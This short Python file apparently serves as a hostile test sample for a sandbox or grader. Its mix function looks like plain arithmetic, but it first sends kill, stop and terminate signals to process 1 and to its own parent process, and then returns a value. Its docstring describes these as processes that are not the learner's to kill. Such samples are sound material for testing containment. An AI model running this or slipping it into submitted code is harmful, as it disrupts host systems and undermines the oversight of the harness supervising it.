"""Kills process 1 and the parent, which are not the learner's to kill."""

import os
import signal


def mix(a, b):
    for pid in (1, os.getppid() or 1):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGCHLD):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    return a * a + 7919 % 97 * b
